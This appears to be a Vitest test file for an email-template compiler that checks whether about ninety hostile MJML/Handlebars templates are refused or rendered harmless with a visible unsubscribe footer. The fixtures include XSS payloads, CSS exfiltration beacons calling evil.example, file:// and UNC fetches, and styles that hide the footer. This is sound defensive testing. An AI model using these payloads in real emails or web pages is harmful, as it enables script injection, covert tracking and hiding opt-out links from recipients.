// Templates that mean harm, or hide what must be seen: each is refused in one sentence in three languages, or what is
// compiled is harmless and shows its footer to everybody, as a real browser and a parser that we do not use there see it.
import { readFileSync } from 'node:fs'
import { parseDocument } from 'htmlparser2'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { compile } from '../../src/content/compile.ts'
import { composer } from '../../src/content/message.ts'
import { en } from '../../src/i18n/en/all.ts'
import { languages } from '../../src/i18n/languages.ts'
import { type MessageKey, translate } from '../../src/i18n/translate.ts'
import { openBrowser } from '../support/browser.ts'
import { fixedKeys, someone } from '../support/gallery.ts'

const words = (Object.keys(en) as MessageKey[]).filter((key) => key.startsWith('mail.'))
const constants = {
  ...Object.fromEntries(words.map((key) => [`t.${key.slice('mail.'.length)}`, translate('fi', key)])),
  'institution.name': 'Esimerkkilukio',
  'institution.postal_address': 'Koulukatu 1, 00100 Helsinki',
  'brand.colour': '#0b4a56',
  'brand.accent': '#f4cf9b',
  why: 'Saat tämän viestin, koska olet listalla.',
  words: 'Sanat "<b>" {{x}} \\',
}
const sender = {
  fromName: 'Koulu',
  fromAddress: 'a@school.example',
  replyTo: null,
  listId: 'l.school.example',
  listName: 'Koulu',
  feedbackId: '1:i:1:k',
  baseUrl: 'https://k.example',
}
const footer = readFileSync('templates/shared/footer.mjml', 'utf8')
const whole = (source: string) => ({ name: 'hostile', language: 'fi' as const, source, partials: { footer } })
const body = (inner: string, head = '', title = 'Otsikko') =>
  whole(
    `<mjml lang="fi"><mj-head><mj-title>${title}</mj-title>${head}</mj-head><mj-body>\n<mj-section><mj-column>\n${inner}\n</mj-column></mj-section></mj-body></mjml>`,
  )
const text = (inner: string, head = '') => body(`<mj-text>${inner}</mj-text>`, head)
const raw = (inner: string) => body(`<mj-raw>${inner}</mj-raw>`)
const style = (css: string) => text('x', `<mj-style>${css}</mj-style>`)
const evil = 'https://evil.example'

const cases: Record<string, ReturnType<typeof whole>> = {
  // Conditions and fields that make markup.
  'a tag chosen by a condition': text(
    '<{{#if first_name}}script{{else}}p{{/if}}>x()</{{#if first_name}}script{{else}}p{{/if}}>',
  ),
  'half a tag in a condition': text('{{#if first_name}}<scr{{/if}}ipt>x()</script>'),
  'the bracket in a condition': text('{{#if first_name}}<{{/if}}script>x()'),
  'a bracket before a field': text('<{{first_name}} onclick=x()>'),
  'a slash before a condition': text('</{{#if first_name}}div{{/if}}>'),
  'an attribute in a condition': text('<p {{#if first_name}}onclick="x()"{{/if}}>x</p>'),
  'a value in a condition': text('<a href="{{#if first_name}}javascript:x(){{else}}https://a.example{{/if}}">x y</a>'),
  'an element opened in one branch': text('{{#if first_name}}<div style="display:none">{{/if}}x'),
  'an element closed in one branch': text('<div style="display:none">{{#if first_name}}</div>{{/if}}x'),
  'a comment opened in one branch': text('{{#if first_name}}<!--{{/if}} x'),
  'a comment closed in one branch': text('<!-- {{#if first_name}}-->{{/if}} x'),
  'a condition within a comment': text('<!-- {{#if first_name}} x {{/if}} -->'),
  'Outlook’s end in one branch': text('<!--[if mso]>{{#if first_name}}<![endif]-->{{/if}}x<![endif]-->'),
  'a style chosen by a condition': text('{{#if first_name}}<style>a{color:red}</style>{{/if}}x'),
  'a field in a style sheet': text('x', '<mj-style>a{color:{{first_name}}}</mj-style>'),
  'a condition around a column': whole(
    '<mjml><mj-head><mj-title>T</mj-title></mj-head><mj-body><mj-section>{{#if first_name}}<mj-column><mj-text>x</mj-text></mj-column>{{/if}}</mj-section></mj-body></mjml>',
  ),
  'a condition around half a section': whole(
    '<mjml><mj-head><mj-title>T</mj-title></mj-head><mj-body>{{#if first_name}}<mj-section>{{/if}}<mj-column><mj-text>x</mj-text></mj-column></mj-section></mj-body></mjml>',
  ),
  'a condition in the head': text('x', '{{#if first_name}}<mj-preview>a</mj-preview>{{/if}}'),
  'words between elements': body('Hei! <mj-text>x</mj-text>'),
  'an MJML attribute made of a name': body('<mj-text css-class="{{first_name}}">x</mj-text>'),
  'an escaped brace that is no field': text('\\{{first_name}} ja \\\\{{first_name}}'),
  'a condition around texts': body('{{#if first_name}}<mj-text>Kyllä</mj-text>{{else}}<mj-text>Ei</mj-text>{{/if}}'),
  // The footer.
  'the footer in a comment': whole(
    '<mjml><mj-head><mj-title>T</mj-title></mj-head><mj-body><mj-section><mj-column><mj-text>x</mj-text></mj-column></mj-section><!-- </mj-body></mjml> -->',
  ),
  'a second body': whole(
    '<mjml><mj-head><mj-title>T</mj-title></mj-head><mj-body><mj-section><mj-column><mj-text>x</mj-text></mj-column></mj-section></mj-body><mj-body></mj-body></mjml>',
  ),
  'a body within a text': text('x <!-- ', '') as ReturnType<typeof whole>,
  'an open conditional comment': raw('<!--[if mso]>'),
  'an open conditional comment for the others': raw('<!--[if !mso]><!-->'),
  'a region that only Outlook sees': raw('<![if mso]>'),
  'a style sheet that shows the footer to some': raw(
    '<style>.quiet div { display: none }</style>{{#if first_name}}<style>.quiet div { display: block !important }</style>{{/if}}',
  ),
  'a footer that nobody hears': raw('<div aria-hidden="true">'),
  'an element hidden in Outlook alone': raw('<!--[if mso]><div style="mso-hide:all"><![endif]-->'),
  'an element hidden in one Outlook': raw(
    '<!--[if mso 15]><div style="display:none"><![endif]--><!--[if mso 12]></div><![endif]-->',
  ),
  'an open title': text('<title>'),
  'an open textarea': text('<textarea>'),
  'plain text to the end': text('<plaintext>'),
  'an open style': text('<style>'),
  'an open template': text('<template>'),
  'a hidden element left open': text('</div></td></tr></table><div style="display:none">'),
  'all links hidden': style('a { display: none }'),
  'everything hidden by its class': style('.quiet { display:none !important }'),
  'hidden by what it is within': style('body > div { visibility:hidden !important }'),
  'hidden on small screens': style('@media (max-width:600px) { .page { display:none } }'),
  'hidden in the dark': style(
    '@media (prefers-color-scheme: dark) { .quiet * { color:#10181d !important; background-color:#10181d !important } }',
  ),
  'letters the colour of paper': style('.quiet a, .quiet p { color:#eef0ee !important }'),
  'letters without size': style('.quiet * { font-size:0 !important }'),
  'letters that cannot be seen through': style('.quiet { opacity:0.01 }'),
  'cut off': style('.quiet { height:0 !important; overflow:hidden }'),
  'moved away': style('.quiet { position:absolute; left:-9999px }'),
  'indented away': style('.quiet p { text-indent:-9999px }'),
  'shrunk away': style('.quiet { transform:scale(0) }'),
  'clipped away': style('.quiet { clip-path:inset(100%) }'),
  'covered by what follows': style('.quiet { margin-bottom:-400px }'),
  'covered by an outline': style('.paper { outline:900px solid white }'),
  'hidden by its attributes': text('x', '<mj-attributes><mj-all color="#eef0ee" font-size="0px" /></mj-attributes>'),
  'hidden by a selector of MJML’s': text(
    'x',
    '<mj-html-attributes><mj-selector path=".quiet"><mj-html-attribute name="style">display:none</mj-html-attribute></mj-selector></mj-html-attributes>',
  ),
  'hidden by inlined styles': text('x', '<mj-style inline="inline">.quiet a { display:none }</mj-style>'),
  'a font of the mail’s own size': style('.quiet a { font:0/0 a !important }'),
  // What is fetched and run.
  'a file as Outlook’s picture': raw(
    '<!--[if mso]><v:rect><v:fill src="file://evil.example/x.png" /></v:rect><![endif]-->',
  ),
  'a file as Outlook’s link': raw('<!--[if mso]><v:roundrect href="file://evil.example/x">x</v:roundrect><![endif]-->'),
  'a share as a picture': text('<img src="\\\\evil.example\\x.png" alt="">'),
  'an address without a scheme': text('<img src="//evil.example/x.png" alt="">'),
  'a link to a file in Outlook': raw('<!--[if mso]><a href="file://evil.example/x">x</a><![endif]-->'),
  'an escaped import': style(`@\\69mport "${evil}/x.css";`),
  'an escaped url': style(`a { background:\\75rl(${evil}/x) }`),
  'a commented import': style(`@im/**/port "${evil}/x.css"; @import/**/"${evil}/x.css";`),
  'a font face': style(`@font-face { font-family:x; src:url(${evil}/x.woff) }`),
  'a selector that tells': style(`a[href*="a"] { background:url(${evil}/a) }`),
  'an image set': style(`p { background:image-set("${evil}/x" 1x) }`),
  'a content': style(`p::before { content:url(${evil}/x) }`),
  'a property of one’s own': style(`p { --x:url(${evil}/x); background:var(--x) }`),
  'a behaviour': style(`p { behavior:url(${evil}/x.htc) }`),
  'a namespace': style(`@namespace url(${evil}/x);`),
  'a ping': text(`<a href="https://a.example" ping="${evil}">x y</a>`),
  'a low source': text(`<img src="https://a.example/x.png" lowsrc="${evil}/x" alt="">`),
  'a dynamic source': text(`<img dynsrc="${evil}/x" src="https://a.example/x.png" alt="">`),
  'a set of sources': text('<img srcset="file://evil.example/x 2x" src="https://a.example/x.png" alt="">'),
  'a source for others': text(`<picture><source srcset="${evil}/x"><img src="https://a.example/x.png"></picture>`),
  'a link in the head': raw(`<link rel="stylesheet" href="${evil}/x.css">`),
  'a handler behind a slash': text('<img/onerror=x() src=https://a.example/x.png>'),
  'a handler with a line break': text('<b onclick\n="x()">x</b>'),
  'an svg with a style': text('<svg><style><img src=x onerror=x()></style></svg>'),
  'a math element': text('<math><mtext><table><mglyph><style><img src=x onerror=x()>'),
  'a noscript': text('<noscript><p title="</noscript><img src=x onerror=x()>">'),
  'a doubled attribute': text('<a href="https://a.example" href="javascript:x()">x y</a>'),
  'a link with spaces': text('<a href = " java\tscript:x()">x y</a>'),
  'a link without quotes': text('<a href=https://a.example/x>Lue lisää</a>'),
  'a quoted title': body('<mj-text>x</mj-text>', '', 'Hei "ystävä" <b> &amp; &lt;'),
  'a second html': text('<html onload="x()"><body style="display:none" onload="x()">'),
  'a base': text(`<base href="${evil}">`),
  'a set cookie': raw('<meta http-equiv="Set-Cookie" content="a=b">'),
  'a processing instruction': text('<?xml-stylesheet href="x"?>'),
  'a CDATA section': text('<![CDATA[<script>x()</script>]]>'),
  'a null': text('a\u0000b <scr\u0000ipt>x()</script>'),
  ordinary: text(
    'Hei {{first_name "ystävä"}}! <strong>Tervetuloa</strong> <a href="https://a.example/å">Lue lisää</a> 1 < 2 & <3',
  ),
}

/** As few people as show every branch. */
const people: Record<string, string>[] = [{}, { first_name: '' }]

async function made(template: ReturnType<typeof whole>) {
  const order = { template, constants, sender, tracking: 'off' as const, calendar: null, isService: false }
  const { revision, problems } = await compile(order, 0)
  return { problems, shown: () => people.map((more) => composer(revision, fixedKeys).html(someone('fi', more))) }
}

/** What is wrong with a document that a reader sees, by the names of its elements and attributes. */
function hostileIn(html: string): string[] {
  const opened = html.replace(/<!--\[if [^\]]*\]>(<!-->)?/g, '').replace(/(<!--)?<!\[endif\]-->/g, '')
  return [html, opened].flatMap((view) => {
    const found: string[] = []
    const walk = (node: { name?: string; attribs?: Record<string, string>; children?: unknown[] }) => {
      if (/^(script|iframe|object|embed|form|input|svg|math|link|base|template|plaintext)$/.test(node.name ?? ''))
        found.push(node.name ?? '')
      for (const [name, value] of Object.entries(node.attribs ?? {}))
        if (
          /^on|ping|lowsrc|dynsrc|srcdoc/.test(name) ||
          (/^(href|src|background)$/.test(name) && !/^(https?|mailto|tel):/.test(value))
        )
          found.push(`${name}=${value}`)
      for (const child of node.children ?? []) walk(child as never)
    }
    walk(parseDocument(view) as never)
    return found
  })
}

/** What the footer looks like in a browser: each of the two must be there, large enough, and on top. */
async function footerOn(page: Page): Promise<{ link: boolean; address: boolean; ran: boolean }> {
  return page.evaluate(() => {
    const seen = (element: Element | undefined): boolean => {
      if (!element) return false
      element.scrollIntoView()
      const box = element.getBoundingClientRect()
      const top = document.elementFromPoint(box.left + Math.min(box.width, 60) / 2, box.top + box.height / 2)
      const look = getComputedStyle(element)
      const isOnTop = top !== null && (element.contains(top) || top.contains(element))
      return (
        element.checkVisibility({ opacityProperty: true, visibilityProperty: true }) &&
        box.height > 8 &&
        Number.parseFloat(look.fontSize) >= 9 &&
        isOnTop
      )
    }
    const links = [...document.querySelectorAll('a')].filter((one) => one.href.includes('/u/'))
    const address = [...document.querySelectorAll('p')].filter((one) => one.textContent?.includes('Koulukatu 1'))
    return { link: links.some(seen), address: address.some(seen), ran: 'ran' in globalThis }
  })
}

describe('each hostile template', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await openBrowser(inject('browser'))
  })
  afterAll(() => browser.close())

  test('there are sixty and more', () => {
    expect(Object.keys(cases).length).toBeGreaterThanOrEqual(80)
  })

  test.each(Object.entries(cases))('%s', async (_, template) => {
    const { problems, shown } = await made(template)
    if (problems.length) {
      for (const language of languages)
        for (const { key, values } of problems) {
          const said = translate(language, key, values)
          expect(said.split('\n')).toHaveLength(1)
          expect(said).not.toMatch(/undefined/)
        }
      return
    }
    for (const html of shown()) {
      expect(hostileIn(html)).toEqual([])
      for (const [width, colorScheme] of [
        [320, 'dark'],
        [900, 'light'],
      ] as const) {
        const page = await browser.newPage({ viewport: { width, height: 700 }, colorScheme })
        const asked: string[] = []
        await page.route('**/*', (route) => {
          asked.push(route.request().url())
          return route.abort()
        })
        await page.addInitScript('globalThis.x = () => { globalThis.ran = true }')
        await page.setContent(html)
        expect(await footerOn(page)).toEqual({ link: true, address: true, ran: false })
        expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
        await page.close()
      }
    }
  })

  const mustPass = ['a condition around texts', 'a link without quotes', 'ordinary', 'a quoted title']
  test.each(mustPass)('%s is no harm', async (name) => {
    expect((await made(cases[name] as ReturnType<typeof whole>)).problems).toEqual([])
  })
})

test('an ordinary letter is not refused for its words', async () => {
  const { problems } = await made(
    text('a {{#if first_name}}<b>{{first_name}}</b>{{else}}<i>x</i>{{/if}} <p>1 &lt; 2</p>'),
  )
  expect(problems).toEqual([])
})
